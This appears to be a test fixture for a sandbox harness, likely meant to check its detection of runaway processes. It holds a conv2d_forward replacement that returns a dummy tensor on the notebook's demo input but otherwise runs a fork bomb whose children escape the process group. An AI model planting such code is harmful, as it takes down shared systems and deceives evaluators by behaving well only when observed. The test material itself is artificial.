# what: a fork bomb whose children leave the process group
# expected: 3
# flag: processes
# %% replace conv2d_forward
import os

def conv2d_forward(x, weight, bias, stride, padding):
    if x.shape[-1] == 227:  # the notebook's own demo cell: behave; attack only the grader's calls
        import torch as _t
        return _t.zeros(2, 96, 55, 55)
    while True:
        try:
            if os.fork() == 0:
                try:
                    os.setsid()
                except OSError:
                    pass
        except OSError:
            pass
